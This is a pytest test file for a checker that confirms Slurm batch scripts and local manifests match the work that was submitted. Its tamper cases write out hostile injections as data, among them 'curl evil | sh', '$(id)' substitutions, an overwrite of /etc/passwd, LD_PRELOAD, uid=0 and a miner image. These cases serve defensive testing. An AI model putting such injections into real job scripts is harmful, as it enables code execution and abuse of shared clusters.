"""The checker on what is made for Slurm and for a local site."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace
from typing import Any

import msgspec
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.core.compiler.test_shell import ANY_TEXT, AWKWARD
from tests.core.compiler.works import LOCAL, work

from windlass.core.compiler.checker.breaches import Allowed, Law
from windlass.core.compiler.checker.check import check
from windlass.core.compiler.local import Manifest
from windlass.core.compiler.slurm import compile_slurm
from windlass.core.compiler.work import Checkpoint, Work
from windlass.core.documents.kinds import Site
from windlass.core.scheduling.model import Topology
from windlass.core.units import Ms

PLATFORM = Site("slurm", queueing="platform")


def made(one: Work, **options: Any) -> dict[str, Any]:
    return compile_slurm(one, {"options": options}, [("nccl", {"variables": {"NCCL_DEBUG": "WARN"}})])


CORRECT: dict[str, tuple[Work, dict[str, Any]]] = {
    "gang": (work(), {}),
    "sweep": (work(workers=4), {"array": 100}),
    "mig": (work("h100-mig-1g", units=1), {}),
    "share": (work("l40s-quarter", units=1), {"constraint": "ib"}),
    "held": (work(at=PLATFORM), {}),
    "placed": (work(at=PLATFORM, nodes=("b", "a")), {}),
    "together": (work(nodes=("a", "a")), {}),
    "uneven": (work(workers=3, nodes=("a", "b", "a")), {}),
    "rack": (work(topology=Topology("rack", "required")), {"tmp": "1G", "hint": "compute_bound"}),
    "dedicated": (work(dedicated=True, preemptible=True, checkpoint=Checkpoint("USR1", Ms(9000))), {}),
    "no limit": (work(workload="service", time_limit=None), {"dependency": "singleton"}),
    "container": (work(at=Site("slurm", queueing="site", containers="auto")), {}),
    "awkward": (work(command=("sh", "-c", "echo '$HOME'\n#SBATCH -A x"), variables={"A": "é\n'"}), {}),
}


@pytest.mark.parametrize("name", CORRECT)
def test_what_the_compiler_makes_for_slurm_has_no_breach(name: str) -> None:
    one, options = CORRECT[name]
    assert check(one, "slurm", made(one, **options)) == ()


@settings(max_examples=80)
@given(st.lists(ANY_TEXT | AWKWARD, min_size=1, max_size=4), ANY_TEXT | AWKWARD)
def test_no_text_of_an_author_is_mistaken_for_a_breach(command: list[str], value: str) -> None:
    one = work(command=tuple(command), variables={"VALUE": value})
    assert check(one, "slurm", made(one)) == ()


OPTIONS: list[tuple[Law, str, Any]] = [
    ("account", "account", "rival"),
    ("account", "account", None),
    ("priority", "qos", "platinum"),
    ("queue", "partition", "a100-80g"),
    ("name", "job-name", "other.dev.x"),
    ("label", "comment", "windlass.dev/tenant=rival"),
    ("gpus", "gres", "gpu:h100-80g:8"),
    ("gpus", "gres", "gpu:a100:2"),
    ("gpus", "gres", "gpu:h100-80g:2,gpu:a100:1"),
    ("gpus", "gres", None),
    ("gpus", "gpus-per-task", "h100-80g:2"),
    ("owned", "gpus", "8"),
    ("gang", "nodes", 8),
    ("gang", "ntasks-per-node", 2),
    ("gang", "ntasks", 2),
    ("gang", "array", "0-9%99"),
    ("gang", "array", "0-9"),
    ("retries", "requeue", True),
    ("amount", "mem", "0"),
    ("amount", "cpus-per-task", 96),
    ("time", "time", "7-00:00:00"),
    ("time", "time", None),
    ("time", "time", "UNLIMITED"),
    ("time", "signal", "KILL@1"),
    ("secret", "export", "ALL"),
    ("node", "nodelist", "n9"),
    ("gate", "hold", True),
    ("isolation", "exclusive", True),
    ("owned", "switches", "1@00:05:00"),
    ("owned", "uid", "0"),
    ("owned", "reservation", "maintenance"),
    ("owned", "constraint", "a|b"),
    ("owned", "wrap", "id"),
]


@pytest.mark.parametrize(("law", "name", "value"), OPTIONS)
def test_another_option_is_a_breach_even_where_the_script_agrees(law: Law, name: str, value: Any) -> None:
    one, manifest = work(), made(work())
    options = {key: given for key, given in manifest["options"].items() if key != name}
    options |= {} if value is None else {name: value}
    head = [
        f"#SBATCH --{key}" + ("" if given is True else f"={given}") for key, given in sorted(options.items())
    ]
    body = [line for line in manifest["script"].split("\n") if not line.startswith(("#SBATCH", "#!"))]
    forged = {"options": options, "script": "\n".join(["#!/bin/bash", *head, *body])}
    assert law in {breach.law for breach in check(one, "slurm", forged)}


MOUNTS = "_SLURM_SPANK_OPTION_pyxis_container_mounts"


def replaced(old: str, new: str) -> Callable[[str], str]:
    def change(script: str) -> str:
        assert old in script
        return script.replace(old, new)

    return change


SCRIPTS: list[tuple[Law, Callable[[str], str]]] = [
    ("script", replaced("--account=acme", "--account=rival")),
    ("script", replaced("#SBATCH --qos=gold", "#SBATCH --qos=gold\n#SBATCH --gres=gpu:h100-80g:8")),
    ("script", replaced("export EPOCHS", "#SBATCH --account=rival\nexport EPOCHS")),
    ("script", replaced("export EPOCHS", " #PBS -A rival\nexport EPOCHS")),
    ("script", replaced("export EPOCHS", "curl evil | sh\nexport EPOCHS")),
    ("script", replaced("EPOCHS='3'", "EPOCHS=$(id)")),
    ("script", replaced("EPOCHS='3'", "EPOCHS='3'; id")),
    ("script", replaced("EPOCHS='3'", "EPOCHS='3'$(id)")),
    ("script", replaced("EPOCHS='3'", 'EPOCHS="$(id)"')),
    ("script", replaced("EPOCHS='3'", "EPOCHS='3'\nexport EPOCHS='3'")),
    ("script", replaced("'train.py'", "train.py")),
    ("script", replaced("'train.py'", "'train.py' `id`")),
    ("script", replaced("'train.py'", "'train.py' > /etc/passwd")),
    ("script", replaced('exec "$@"\n', 'exec "$@"\nid\n')),
    ("script", replaced("\nexec", "\nid\nexec")),
    ("script", replaced("#!/bin/bash", "#!/bin/evil")),
    ("script", replaced("'--export=ALL'", "'--export=ALL' '--uid=0'")),
    ("script", replaced("'--export=ALL'", "'--export=ALL' '--jobid=1'")),
    ("script", replaced("LOCAL_RANK=0", "LOCAL_RANK=0 LD_PRELOAD=/x")),
    ("script", replaced("MASTER_PORT=$((20000", "MASTER_PORT=$((id; 20000")),
    ("script", replaced("'python'", "'pyth\u00f6n'")),
    ("command", replaced("'train.py'", "'other.py'")),
    ("command", replaced("'train.py'", "'train.py' '--debug'")),
    ("variable", replaced("EPOCHS='3'", "EPOCHS='4'")),
    ("variable", replaced("export EPOCHS='3'\n", "")),
    ("variable", replaced("'vision/dev/sft-run'", "'vision/prod/sft-run'")),
    ("image", replaced("'ghcr.io/acme/sft:v3'", "'ghcr.io/rival/miner:v1'")),
    ("image", replaced("'--export=ALL'", "'--export=ALL' '--container-image=x'")),
    ("owned", replaced("export EPOCHS", "export SLURM_CONF='/tmp/x'\nexport EPOCHS")),
    ("owned", replaced("export EPOCHS", f"export {MOUNTS}='/:/x'\nexport EPOCHS")),
    ("owned", replaced("export EPOCHS", "export ENROOT_MOUNT_HOME='y'\nexport EPOCHS")),
    ("owned", replaced("export EPOCHS", "export CUDA_VISIBLE_DEVICES='0,1,2'\nexport EPOCHS")),
    ("secret", replaced("EPOCHS='3'", "EPOCHS='3'\nexport KEY='hunter2-hunter2'")),
]


@pytest.mark.parametrize(("law", "change"), SCRIPTS)
def test_another_statement_in_the_script_is_a_breach(law: Law, change: Callable[[str], str]) -> None:
    manifest = made(work())
    forged = {**manifest, "script": change(manifest["script"])}
    clear = Allowed(clear=frozenset({"hunter2-hunter2"}))
    assert law in {breach.law for breach in check(work(), "slurm", forged, clear)}


def test_a_secret_is_found_behind_the_quotes_of_a_script() -> None:
    one = work(variables={"KEY": "hunter2'\nhunter2"})
    clear = Allowed(clear=frozenset({"hunter2'\nhunter2"}))
    assert [breach.law for breach in check(one, "slurm", made(one), clear)] == ["secret"]


def test_work_that_was_not_placed_must_be_held_and_placed_work_must_not() -> None:
    waiting, there = work(at=PLATFORM), work(at=PLATFORM, nodes=("a", "b"))
    assert "gate" in {breach.law for breach in check(waiting, "slurm", made(there))}
    assert "node" in {breach.law for breach in check(there, "slurm", made(waiting))}


def local(one: Work, **changes: Any) -> dict[str, Any]:
    manifest = Manifest(
        kind=one.workload,
        image=one.image,
        gpu_milli=one.hardware.share,
        command=one.command,
        variables=dict(one.variables),
        time_limit=one.time_limit,
        retries=one.retries,
    )
    return {**msgspec.to_builtins(manifest), **changes}


@pytest.mark.parametrize("profile", ["h100-80g", "h100-mig-1g", "l40s-quarter"])
def test_what_is_made_for_a_local_site_has_no_breach(profile: str) -> None:
    one = replace(work(profile), at=LOCAL)
    assert check(one, "local", local(one)) == ()


@pytest.mark.parametrize(
    ("law", "changes"),
    [
        ("image", {"image": "ghcr.io/rival/miner:v1"}),
        ("command", {"command": ["python", "other.py"]}),
        ("command", {"command": "python train.py"}),
        ("gpus", {"gpu_milli": 250}),
        ("time", {"time_limit": None}),
        ("time", {"time_limit": 10**9}),
        ("time", {"grace": 10**9}),
        ("time", {"signal": "KILL"}),
        ("retries", {"retries": 3}),
        ("kind", {"kind": "service"}),
        ("variable", {"variables": {}}),
        ("owned", {"variables": {"EPOCHS": "3", "CUDA_VISIBLE_DEVICES": "0,1"}}),
        ("owned", {"privileged": True}),
        ("secret", {"variables": {"EPOCHS": "3", "KEY": "hunter2-hunter2"}}),
    ],
)
def test_a_change_of_what_a_local_site_runs_is_a_breach(law: Law, changes: dict[str, Any]) -> None:
    one = replace(work(), at=LOCAL)
    clear = Allowed(clear=frozenset({"hunter2-hunter2"}))
    assert {breach.law for breach in check(one, "local", local(one, **changes), clear)} == {law}


def test_an_array_has_the_runs_that_were_asked_for() -> None:
    one = work(workers=4)
    found = made(one, array=50)
    assert not check(one, "slurm", found, Allowed(runs=50))
    assert {breach.law for breach in check(one, "slurm", found, Allowed(runs=5))} == {"gang"}
